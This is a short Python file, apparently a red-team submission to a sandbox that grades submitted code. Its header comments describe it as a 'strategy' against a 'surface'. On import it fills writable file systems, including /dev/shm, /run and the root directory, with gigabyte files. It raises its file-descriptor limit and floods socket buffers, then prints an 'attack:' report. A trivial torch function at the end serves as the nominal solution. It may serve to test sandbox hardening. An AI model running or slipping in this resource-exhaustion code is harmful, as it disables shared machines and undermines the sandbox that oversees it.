# Strategy: fills every file system that it may write to, and the pipes and sockets between processes besides.
# Surface: scratch space, shared memory, /dev/shm, and memory of the kernel that no file accounts for.
import os
import resource
import socket

import torch

filled = []
for place in (os.environ["HOME"], os.environ["TMPDIR"], "/dev/shm", "/dev/mqueue", "/run", "/var/tmp", "/"):
    written = 0
    try:
        with open(f"{place}/hog", "wb", buffering=0) as file:
            while written < 1 << 30 and (n := file.write(bytes(1 << 20))):
                written += n
        filled.append(f"{place} has no end")
    except OSError as error:
        filled.append(f"{place} {written >> 20} MiB {error.strerror}" if written else f"{place} none")
pipes = []
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
for _ in range(200):
    try:
        pair = socket.socketpair()
        pair[0].setblocking(False)
        pipes += pair
        while True:
            pair[0].send(bytes(1 << 16))
    except OSError:
        continue
print(f"attack: {'; '.join(filled)}", flush=True)


def twice(x, y):
    torch.mul(x, 2, out=y)
